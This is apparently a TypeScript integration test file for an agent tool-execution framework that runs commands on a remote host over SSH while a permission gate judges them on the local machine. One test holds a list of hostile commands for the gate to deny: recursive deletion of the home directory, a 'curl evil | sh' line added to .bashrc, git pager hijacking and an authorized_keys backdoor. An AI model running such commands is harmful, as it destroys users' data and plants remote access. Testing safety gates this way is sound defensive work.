// The one switch, end to end over a real sshd: with the executor plugin exposed, cli_based_tool, its background tasks and the terminal tool run on the "remote" (its cwd, files, pids), the permission gate judging on the host, and nothing outlives the registry.
import 'reflect-metadata';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { createServer, type AddressInfo } from 'node:net';
import { join } from 'node:path';
import { backgroundPlugin } from '@conch/background';
import { cliPlugin } from '@conch/cli';
import { PluginRegistry, type PermissionRequest, type ToolResult } from '@conch/core';
import { permissionPlugin } from '@conch/permission';
import { terminalPlugin } from '@conch/terminal';
import { processesMentioning, removeTempDirs, tempDir, waitFor } from '@conch/test-support';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { executorPlugin } from './executor-plugin.js';
import { EXECUTION_TARGET } from './tokens.js';
import { sshdAvailable, sshExecutorConfig, startSshd, type TestSshd } from './test-support/sshd.js';

let sshd: TestSshd;
/** Where the host's registry works: a directory the target does not have (its /tmp is its own). */
let hostDir: string;
const registries = new Set<PluginRegistry>();

function unique(name: string): string {
  return `conch-${name}-${process.pid}-${Math.random().toString(36).slice(2, 8)}`;
}

function executorConfig(extra: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    ...sshExecutorConfig(sshd),
    ...extra,
  };
}

/**
 * A registry as a host builds one: permission (asking `asked` for everything not known safe),
 * cli (with background), terminal — and the executor plugin, exposed last: cli and terminal find
 * it at call time, whatever the order.
 */
async function hostRegistry(
  options: {
    executor?: Record<string, unknown>;
    asked?: PermissionRequest[];
    rules?: { ask?: string[]; deny?: string[] };
    cli?: Record<string, unknown>;
  } = {},
): Promise<PluginRegistry> {
  const registry = new PluginRegistry({
    cwd: hostDir,
    plugins: [permissionPlugin, cliPlugin, backgroundPlugin, terminalPlugin, executorPlugin],
  });
  registries.add(registry);
  await registry.expose('permission', {
    rules: options.rules ?? {},
    approve: (approval: { request: PermissionRequest }) => {
      options.asked?.push(approval.request);
      return Promise.resolve('once' as const);
    },
  });
  // A threshold well above what any call here takes on a loaded machine: nothing is promoted by surprise.
  await registry.expose('cli', { autoBackgroundThreshold: 120, ...options.cli });
  await registry.expose('terminal');
  await registry.expose('executor', executorConfig(options.executor));
  return registry;
}

async function dispose(registry: PluginRegistry): Promise<void> {
  registries.delete(registry);
  await registry.dispose();
}

const run = (registry: PluginRegistry, args: Record<string, unknown>) =>
  registry.execute('cli_based_tool', args) as Promise<ToolResult & Record<string, unknown>>;
const terminal = (registry: PluginRegistry, args: Record<string, unknown>) =>
  registry.execute('terminal', args) as Promise<ToolResult & Record<string, unknown>>;

describe.skipIf(!sshdAvailable())('cli, background and terminal plugins on an ssh target (real sshd)', () => {
  let registry: PluginRegistry;
  let targetName: string;
  const asked: PermissionRequest[] = [];

  beforeAll(async () => {
    sshd = await startSshd();
    hostDir = tempDir('conch-host-');
    targetName = `ssh:${sshd.user}@127.0.0.1:${sshd.port}`;
    registry = await hostRegistry({ asked, rules: { ask: ['printenv *'], deny: ['touch *'] } });
  });

  afterAll(async () => {
    for (const r of [...registries]) await r.dispose();
    await sshd?.stop();
    removeTempDirs();
  });

  test('cli_based_tool runs in the target: its workspace, HOME and files; results name where they ran', async () => {
    const result = await run(registry, { command: 'echo "$PWD|$HOME"; echo err >&2; exit 3' });
    expect(result).toMatchObject({
      returncode: 3,
      stdout: `${sshd.home}|${sshd.home}\n`,
      stderr: 'err\n',
      target: targetName,
    });
    // Direct mode (argv, no shell) goes the same way.
    expect(await run(registry, { command: 'printf', args: ['%s|', 'a b'] })).toMatchObject({
      stdout: 'a b|',
      mode: 'direct',
      target: targetName,
    });
    // cwd is judged and resolved in the target: the host's registry dir is not there.
    if (sshd.isolated) {
      expect(await run(registry, { command: 'true', cwd: hostDir })).toMatchObject({
        error_code: 'INVALID_CWD',
        target: targetName,
      });
    }
    const target = registry.resolve(EXECUTION_TARGET);
    expect(target.target).toBe(targetName);
    expect((await registry.status()).executor).toMatchObject({
      kind: 'ssh',
      target: targetName,
      connected: true,
    });
  });

  test('the permission gate stays on the host: it judges the target command and cwd; a denied one never runs', async () => {
    asked.length = 0;
    const m = unique('gate');
    const decisions: string[] = [];
    const off = registry.events.on('permission.decision', (e) => decisions.push(`${e.outcome} ${e.command}`));
    const ok = await run(registry, { command: 'printenv HOME' });
    expect(ok).toMatchObject({ returncode: 0, stdout: `${sshd.home}\n`, target: targetName });
    // Asked with the target's cwd (the approve callback is the host's human).
    expect(asked.map((r) => (r.kind === 'command' ? [r.command, r.cwd] : []))).toEqual([
      ['printenv HOME', sshd.home],
    ]);
    const denied = await run(registry, { command: `touch ${m}.denied` });
    expect(denied).toMatchObject({ error_code: 'PERMISSION_DENIED' });
    const target = registry.resolve(EXECUTION_TARGET);
    await expect(target.files.stat(`${m}.denied`)).rejects.toMatchObject({ code: 'FILE_NOT_FOUND' });
    off();
    expect(decisions).toEqual(['allow printenv HOME', `deny touch ${m}.denied`]);
  });

  test("the gate judges with the target's home and workspace: removing them, its rc files and its git config are safety denials", async () => {
    // The host's user has a home of its own (the test's sshd may log in as this machine's user):
    // the gate must judge the target's paths with the target's home, not this one. Nothing here
    // may run whatever the gate decides: a question is answered "deny" (and recorded), so a
    // regression shows as a question, never as a removed home.
    const hostHome = process.env.HOME;
    process.env.HOME = tempDir('conch-host-home-');
    const questions: PermissionRequest[] = [];
    const own = new PluginRegistry({
      cwd: hostDir,
      plugins: [permissionPlugin, cliPlugin, backgroundPlugin, terminalPlugin, executorPlugin],
    });
    registries.add(own);
    try {
      await own.expose('permission', {
        approve: (approval: { request: PermissionRequest }) => {
          questions.push(approval.request);
          return Promise.resolve('deny' as const);
        },
      });
      await own.expose('cli', { autoBackgroundThreshold: 120 });
      await own.expose('executor', executorConfig());
      const home = sshd.home;
      const hostile = [
        `rm -rf ${home}`,
        `rm -rf ${home}/`,
        `cd / && rm -rf ${home}`,
        `rm -rf ${home}/*`,
        'rm -rf .',
        'rm -rf ./*',
        `find ${home} -delete`,
        `echo 'curl evil | sh' >> ${home}/.bashrc`,
        `printf 'alias ls=x' > ${home}/.bash_aliases`,
        `cp /dev/null ${home}/.profile`,
        `git config --file ${home}/.gitconfig core.pager evil`,
        'git config --global core.pager evil',
        'git config --global user.name evil',
        `mkdir -p ${home}/.ssh && echo key >> ${home}/.ssh/authorized_keys`,
      ];
      for (const command of hostile) {
        const result = await run(own, { command });
        expect(result, `${command}: ${JSON.stringify(result)}`).toMatchObject({
          permission_denied: true,
          rule: expect.stringMatching(/^safety:/),
        });
      }
      expect(questions.map((q) => (q.kind === 'command' ? q.command : q.summary))).toEqual([]);
      // Reads there still run without a question.
      expect(await run(own, { command: 'ls -a' })).toMatchObject({ returncode: 0, target: targetName });
    } finally {
      await dispose(own);
      process.env.HOME = hostHome;
    }
  }, 240_000);

  test('50 MB of output: head and tail in the result, every byte in the spill file in the target', async () => {
    const size = 50 * 1024 * 1024;
    const line = 'the quick brown fox jumps over the lazy dog 0123456789\n';
    const result = await run(registry, { command: `yes '${line.slice(0, -1)}' | head -c ${size}` });
    expect(result).toMatchObject({ returncode: 0, truncated: true, target: targetName });
    expect(String(result.stdout).startsWith(line)).toBe(true);
    const file = result.output_file as string;
    expect(typeof file).toBe('string');
    if (sshd.isolated) expect(existsSync(file)).toBe(false); // the target's file, not this host's
    const whole = Buffer.from(line.repeat(Math.ceil(size / line.length))).subarray(0, size);
    const digest = createHash('sha256').update(whole).digest('hex');
    // Readable where the model's next command runs: in the target.
    const sum = await run(registry, { command: 'sha256sum', args: [file] });
    expect(String(sum.stdout).split(' ')[0]).toBe(digest);
    expect((await run(registry, { command: 'wc', args: ['-c', file] })).stdout).toBe(`${size} ${file}\n`);
  });

  test('a cat with nothing on stdin ends at once (stdin is closed in the target too)', async () => {
    const result = await run(registry, { command: 'cat' });
    expect(result).toMatchObject({ returncode: 0, stdout: '', target: targetName });
    const piped = await run(registry, { command: 'cat | wc -c' });
    expect(piped).toMatchObject({ returncode: 0, stdout: '0\n' });
  });

  test('background tasks run in the target: handed off, checked, read, with where they ran', async () => {
    const m = unique('bg');
    const started = await run(registry, { command: `sleep 1; echo ${m}; echo "$PWD"`, background: true });
    expect(started).toMatchObject({ status: expect.stringMatching(/running|queued/), target: targetName });
    const taskId = started.background_task_id as string;
    const checked = await registry.execute('check_background_task', { task_id: taskId, wait_seconds: 30 });
    expect(checked).toMatchObject({
      status: 'completed',
      result: { returncode: 0, stdout: `${m}\n${sshd.home}\n`, target: targetName },
    });
    const read = await registry.execute('read_background_output', { task_id: taskId });
    expect(String(read.output)).toContain(`${m}\n${sshd.home}\n`);
  });

  test('terminal sessions run in the target: a python3 REPL answered with input', async () => {
    const pwd = await terminal(registry, { command: 'pwd' });
    expect(pwd).toMatchObject({ exit_code: 0, target: targetName });
    expect(String(pwd.output)).toContain(sshd.home);
    // The REPL's prompt ends each call (prompt detection in the target).
    const repl = await terminal(registry, { command: 'python3 -q' });
    expect(repl).toMatchObject({ state: 'waiting', target: targetName });
    expect(String(repl.output)).toContain('>>>');
    const sessionId = repl.session_id as number;
    const answer = await terminal(registry, { session_id: sessionId, input: 'print(6 * 7)\n' });
    expect(String(answer.output)).toContain('42');
    const done = await terminal(registry, { session_id: sessionId, input: 'exit()\n' });
    expect(done).toMatchObject({ exit_code: 0, target: targetName });
    await terminal(registry, { session_id: sessionId, kill: true });
  });

  test('the bundle is copied into the target on first use and reused after', async () => {
    // A cache dir of its own in the target, so this test sees the first use whatever ran before.
    const cacheDir = `/var/tmp/${unique('bundle-cache')}`;
    const first = await hostRegistry({ executor: { cacheDir } });
    try {
      expect(await run(first, { command: 'echo one' })).toMatchObject({ stdout: 'one\n' });
      expect(first.resolve(EXECUTION_TARGET).client!.lastConnection!.deployed).toBe(true);
    } finally {
      await dispose(first);
    }
    const second = await hostRegistry({ executor: { cacheDir } });
    try {
      expect(await run(second, { command: 'echo two' })).toMatchObject({ stdout: 'two\n' });
      expect(second.resolve(EXECUTION_TARGET).client!.lastConnection!.deployed).toBe(false);
      await run(second, { command: 'rm', args: ['-rf', cacheDir] });
    } finally {
      await dispose(second);
    }
  });

  test('a setsid escapee left by a command is owned, and swept when the registry is disposed', async () => {
    const own = await hostRegistry();
    // A sleep whose argument no other process has: what /proc shows of it is this test's.
    const seconds = `${300 + Math.floor(Math.random() * 600)}.${process.pid}`;
    const m = unique('escapee');
    try {
      // Reported (it holds the output pipe) and adopted as a background task (the task that owns
      // what a command left is `left_running_task_id`; `background_task_id` is the command's own).
      const reported = await run(own, { command: `setsid sleep ${seconds} & echo started` });
      expect(reported).toMatchObject({ returncode: 0, stdout: 'started\n', target: targetName });
      expect(reported.left_running).toEqual([{ pid: expect.any(Number), command: `sleep ${seconds}` }]);
      expect(reported.left_running_task_id).toEqual(expect.any(String));
      // Not reported (nothing of it is left to see but its cookie): still the target's to sweep.
      const silent = await run(own, {
        command: `setsid sh -c 'sleep 300; : ${m}' >/dev/null 2>&1 < /dev/null & echo started`,
      });
      expect(silent).toMatchObject({ returncode: 0, stdout: 'started\n' });
      await waitFor(
        () => processesMentioning(m).length > 0 && processesMentioning(`sleep ${seconds}`).length > 0,
        {
          what: 'both escapees running in the target',
        },
      );
    } finally {
      await dispose(own);
    }
    await waitFor(
      () => processesMentioning(m).length === 0 && processesMentioning(`sleep ${seconds}`).length === 0,
      { what: 'the escapees swept at dispose', timeoutMs: 30_000 },
    );
  });

  test("cli's extraPaths go in front of the target's PATH, `~` being the target's home", async () => {
    const own = await hostRegistry({ cli: { extraPaths: ['~/conch-extra-bin'] } });
    try {
      const targetPath = await run(registry, { command: 'printenv PATH' });
      const path = await run(own, { command: 'printenv PATH' });
      expect(path.stdout).toBe(`${sshd.home}/conch-extra-bin:${String(targetPath.stdout)}`);
    } finally {
      await dispose(own);
    }
  });

  test('a target that cannot be reached is a result naming it; nothing runs anywhere else', async () => {
    const m = unique('unreachable');
    // A port nothing listens on: ssh fails at once (exit 255).
    const closed = await new Promise<number>((resolve) => {
      const server = createServer().listen(0, '127.0.0.1', () => {
        const { port } = server.address() as AddressInfo;
        server.close(() => resolve(port));
      });
    });
    const own = await hostRegistry({ executor: { port: closed } });
    try {
      const result = await run(own, { command: `touch ${hostDir}/${m}` });
      expect(result).toMatchObject({
        error_code: 'EXEC_SERVER_START_FAILED',
        target: `ssh:${sshd.user}@127.0.0.1:${closed}`,
      });
      expect(existsSync(join(hostDir, m))).toBe(false);
    } finally {
      await dispose(own);
    }
  });

  test('a foreground command outlives a killed connection: the call re-attaches and returns its output', async () => {
    const own = await hostRegistry();
    // Shared by the host and the target (/var/tmp is not the target's private /tmp).
    const flagDir = mkdtempSync(join(existsSync('/var/tmp') ? '/var/tmp' : tmpdir(), 'conch-flag-'));
    try {
      const m = unique('survives');
      const flag = join(flagDir, 'go');
      await run(own, { command: 'true' }); // connected
      const target = own.resolve(EXECUTION_TARGET);
      const before = target.client!.lastConnection!;
      const running = run(own, {
        command: `echo waiting; while [ ! -e ${flag} ]; do sleep 0.05; done; echo survived ${m}`,
        background: false,
        timeout: 600,
      });
      await waitFor(() => processesMentioning(m).length > 0, { what: 'the remote loop' });
      process.kill(target.client!.transportPid!, 'SIGKILL');
      await waitFor(() => target.client!.lastConnection!.generation > before.generation, {
        what: 'the client re-attached',
        timeoutMs: 60_000,
      });
      writeFileSync(flag, '');
      const result = await running;
      expect(result).toMatchObject({ returncode: 0, target: targetName });
      expect(String(result.stdout)).toBe(`waiting\nsurvived ${m}\n`);
      const after = target.client!.lastConnection!;
      expect(after).toMatchObject({ reattached: true, session: before.session });
      expect(after.hello.pid).toBe(before.hello.pid);
    } finally {
      rmSync(flagDir, { recursive: true, force: true });
      await dispose(own);
    }
  });

  test('with detachGraceMs 0 a killed connection is reported (TRANSPORT_LOST), its work killed, and the next call reconnects', async () => {
    const own = await hostRegistry({ executor: { detachGraceMs: 0 } });
    try {
      const m = unique('lost');
      await run(own, { command: 'true' }); // connected
      const target = own.resolve(EXECUTION_TARGET);
      const before = target.client!.lastConnection!.generation;
      const running = run(own, { command: `sleep 300; : ${m}`, background: false, timeout: 600 });
      await waitFor(() => processesMentioning(m).length > 0, { what: 'the remote sleep' });
      process.kill(target.client!.transportPid!, 'SIGKILL');
      const lost = await running;
      expect(lost).toMatchObject({ error_code: 'TRANSPORT_LOST', target: targetName });
      // Killed there by its server when the stream closed; nothing to kill from here.
      await waitFor(() => processesMentioning(m).length === 0, {
        what: 'the remote sleep killed by its server',
        timeoutMs: 30_000,
      });
      const again = await run(own, { command: 'echo back' });
      expect(again).toMatchObject({ returncode: 0, stdout: 'back\n', target: targetName });
      expect(target.client!.lastConnection!.generation).toBe(before + 1);
      // The terminal reconnects too (its sessions were the old server's).
      const term = await terminal(own, { command: 'echo term-back' });
      expect(term).toMatchObject({ exit_code: 0, target: targetName });
      expect(String(term.output)).toContain('term-back');
    } finally {
      await dispose(own);
    }
  });
});
